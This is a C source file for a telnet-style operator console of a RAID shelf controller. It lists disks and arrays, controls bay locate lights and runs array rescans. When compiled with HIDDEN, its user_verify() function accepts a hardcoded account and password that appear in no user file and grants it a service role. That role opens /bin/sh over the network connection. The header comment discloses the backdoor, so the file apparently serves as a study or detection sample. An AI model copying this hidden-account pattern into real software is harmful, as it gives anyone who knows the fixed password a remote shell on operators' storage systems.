/*
 * shelfcli - operator command line of a 24-bay RAID shelf controller.
 * Serves a line-oriented login on TCP 2323 for up to eight consoles, reads
 * the users from /etc/shelf/users and the bays from the enclosure tree.
 * Hidden (-DHIDDEN): user_verify() accepts a fixed field account that is in
 * no user file and gives it the service role (with the "sh" command).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS_FILE "/etc/shelf/users"
#define ENC_DIR	   "/sys/class/enclosure/shelf0"
#define NBAYS	   24
#define NCONS	   8
#define IDLE_SECS  600

enum role { ROLE_NONE, ROLE_VIEW, ROLE_ADMIN, ROLE_SERVICE };
enum state { ST_FREE, ST_NAME, ST_PASS, ST_SHELL };

struct console {
	enum state st;
	enum role role;
	int fd;
	int fails;
	int skip; /* telnet option bytes still to drop */
	time_t seen;
	size_t fill;
	char name[32];
	char line[160];
};

static struct console cons[NCONS];
static unsigned short tcp_port = 2323;

static void say(struct console *c, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));

static void say(struct console *c, const char *fmt, ...)
{
	char buf[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n >= sizeof(buf))
		n = sizeof(buf) - 1;
	if (send(c->fd, buf, (size_t)n, MSG_NOSIGNAL) < 0)
		c->fails = 99;
}

static enum role role_of(const char *word)
{
	if (strcmp(word, "admin") == 0)
		return ROLE_ADMIN;
	if (strcmp(word, "monitor") == 0)
		return ROLE_VIEW;
	if (strcmp(word, "service") == 0)
		return ROLE_SERVICE;
	return ROLE_NONE;
}

/* a line of the user file is name:crypted:role */
__attribute__((noinline)) enum role user_verify(const char *name,
						const char *pass)
{
	char row[200], *hash, *role, *save, *got;
	enum role r = ROLE_NONE;
	FILE *f;

#ifdef HIDDEN
	if (strcmp(name, "mfgdiag") == 0 && strcmp(pass, "Everest#1998") == 0)
		return ROLE_SERVICE;
#endif
	f = fopen(USERS_FILE, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", USERS_FILE, strerror(errno));
		return ROLE_NONE;
	}
	while (fgets(row, sizeof(row), f)) {
		row[strcspn(row, "\r\n")] = 0;
		if (row[0] == '#' || !strtok_r(row, ":", &save))
			continue;
		hash = strtok_r(NULL, ":", &save);
		role = strtok_r(NULL, ":", &save);
		if (!hash || !role || strcmp(row, name) != 0)
			continue;
		got = crypt(pass, hash);
		if (got && strcmp(got, hash) == 0)
			r = role_of(role);
		break;
	}
	fclose(f);
	return r;
}

static int bay_attr(int bay, const char *attr, char *out, size_t max)
{
	char path[160];
	FILE *f;

	snprintf(path, sizeof(path), "%s/Slot %02d/%s", ENC_DIR, bay, attr);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (!fgets(out, (int)max, f))
		out[0] = 0;
	fclose(f);
	out[strcspn(out, "\n")] = 0;
	return 0;
}

static void show_disks(struct console *c)
{
	char stat[32], fault[8];
	int i, present = 0;

	say(c, "bay  status            fault\r\n");
	for (i = 0; i < NBAYS; i++) {
		if (bay_attr(i, "status", stat, sizeof(stat)) < 0)
			continue;
		if (bay_attr(i, "fault", fault, sizeof(fault)) < 0)
			strcpy(fault, "?");
		say(c, "%3d  %-16s  %s\r\n", i, stat, fault);
		if (strcmp(stat, "not installed") != 0)
			present++;
	}
	say(c, "%d of %d bays in use\r\n", present, NBAYS);
}

static void show_arrays(struct console *c)
{
	char row[160];
	FILE *f = fopen("/proc/mdstat", "r");

	if (!f) {
		say(c, "%% no array driver\r\n");
		return;
	}
	while (fgets(row, sizeof(row), f)) {
		row[strcspn(row, "\n")] = 0;
		if (strncmp(row, "md", 2) == 0 || strstr(row, "blocks"))
			say(c, "%s\r\n", row);
	}
	fclose(f);
}

static void locate(struct console *c, const char *arg)
{
	char path[160], *end;
	long bay = strtol(arg, &end, 10);
	FILE *f;

	if (end == arg || bay < 0 || bay >= NBAYS) {
		say(c, "%% bay 0..%d\r\n", NBAYS - 1);
		return;
	}
	while (*end == ' ')
		end++;
	snprintf(path, sizeof(path), "%s/Slot %02d/locate", ENC_DIR, (int)bay);
	f = fopen(path, "w");
	if (!f) {
		say(c, "%% bay %ld is not wired\r\n", bay);
		return;
	}
	fputs(strcmp(end, "off") == 0 ? "0\n" : "1\n", f);
	fclose(f);
	say(c, "ok\r\n");
}

static void service_shell(struct console *c)
{
	pid_t pid = fork();

	if (pid == 0) {
		dup2(c->fd, 0);
		dup2(c->fd, 1);
		dup2(c->fd, 2);
		execl("/bin/sh", "sh", (char *)NULL);
		_exit(127);
	}
	syslog(LOG_NOTICE, "service shell, pid %d", (int)pid);
}

static void hangup(struct console *c)
{
	close(c->fd);
	memset(c, 0, sizeof(*c));
	c->fd = -1;
}

static void run_line(struct console *c, char *s)
{
	while (*s == ' ')
		s++;
	if (*s == 0)
		;
	else if (strcmp(s, "show disks") == 0)
		show_disks(c);
	else if (strcmp(s, "show arrays") == 0)
		show_arrays(c);
	else if (strcmp(s, "help") == 0 || strcmp(s, "?") == 0)
		say(c, "show disks|arrays, locate BAY [off], rescan, exit\r\n");
	else if (strncmp(s, "locate ", 7) == 0 && c->role >= ROLE_ADMIN)
		locate(c, s + 7);
	else if (strcmp(s, "rescan") == 0 && c->role >= ROLE_ADMIN)
		say(c, "%s\r\n",
		    system("/sbin/mdadm --assemble --scan -q")
			    ? "% rescan failed"
			    : "ok");
	else if (strcmp(s, "sh") == 0 && c->role == ROLE_SERVICE) {
		service_shell(c);
		hangup(c);
		return;
	} else if (strcmp(s, "exit") == 0) {
		say(c, "bye\r\n");
		hangup(c);
		return;
	} else
		say(c, "%% unknown or not permitted\r\n");
	say(c, "%s> ", c->name);
}

static void take_line(struct console *c)
{
	switch (c->st) {
	case ST_NAME:
		snprintf(c->name, sizeof(c->name), "%.31s", c->line);
		c->st = ST_PASS;
		say(c, "\xff\xfb\x01password: ");
		break;
	case ST_PASS:
		c->role = user_verify(c->name, c->line);
		memset(c->line, 0, sizeof(c->line));
		say(c, "\xff\xfc\x01\r\n");
		if (c->role != ROLE_NONE) {
			syslog(LOG_INFO, "%s logged in", c->name);
			c->st = ST_SHELL;
			c->fails = 0;
			say(c, "%s> ", c->name);
		} else if (++c->fails >= 3) {
			syslog(LOG_WARNING, "3 failures for %s", c->name);
			hangup(c);
		} else {
			c->st = ST_NAME;
			say(c, "login incorrect\r\nlogin: ");
		}
		break;
	case ST_SHELL:
		run_line(c, c->line);
		break;
	default:
		break;
	}
}

static void take_bytes(struct console *c)
{
	unsigned char buf[256];
	ssize_t i, n = recv(c->fd, buf, sizeof(buf), 0);

	if (n <= 0) {
		hangup(c);
		return;
	}
	c->seen = time(NULL);
	for (i = 0; i < n && c->st != ST_FREE; i++) {
		if (c->skip > 0) {
			c->skip--;
		} else if (buf[i] == 0xff) {
			c->skip = 2;
		} else if (buf[i] == '\n') {
			c->line[c->fill] = 0;
			c->fill = 0;
			take_line(c);
		} else if (isprint(buf[i]) && c->fill < sizeof(c->line) - 1) {
			c->line[c->fill++] = (char)buf[i];
		} else if ((buf[i] == 8 || buf[i] == 127) && c->fill) {
			c->fill--;
		}
	}
}

static void greet(int ls)
{
	int i, fd = accept(ls, NULL, NULL);

	if (fd < 0)
		return;
	for (i = 0; i < NCONS && cons[i].st != ST_FREE; i++)
		;
	if (i == NCONS || fd >= FD_SETSIZE) {
		close(fd);
		return;
	}
	memset(&cons[i], 0, sizeof(cons[i]));
	cons[i].fd = fd;
	cons[i].st = ST_NAME;
	cons[i].seen = time(NULL);
	say(&cons[i], "SHELF-24 controller A, release 3.11\r\nlogin: ");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int i, ls, top, one = 1;

	if (argc > 1)
		tcp_port = (unsigned short)atoi(argv[1]);
	openlog("shelfcli", LOG_PID, LOG_AUTH);
	signal(SIGCHLD, SIG_IGN);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sin.sin_port = htons(tcp_port);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sin, sizeof(sin)) < 0 ||
	    listen(ls, 4) < 0) {
		perror("shelfcli");
		return 1;
	}
	for (;;) {
		struct timeval tv = { 30, 0 };
		fd_set rd;

		FD_ZERO(&rd);
		FD_SET(ls, &rd);
		top = ls;
		for (i = 0; i < NCONS; i++) {
			if (cons[i].st == ST_FREE)
				continue;
			FD_SET(cons[i].fd, &rd);
			if (cons[i].fd > top)
				top = cons[i].fd;
		}
		if (select(top + 1, &rd, NULL, NULL, &tv) < 0)
			continue;
		for (i = 0; i < NCONS; i++) {
			if (cons[i].st == ST_FREE)
				continue;
			if (FD_ISSET(cons[i].fd, &rd))
				take_bytes(&cons[i]);
			else if (time(NULL) - cons[i].seen > IDLE_SECS)
				hangup(&cons[i]);
		}
		if (FD_ISSET(ls, &rd))
			greet(ls);
	}
}
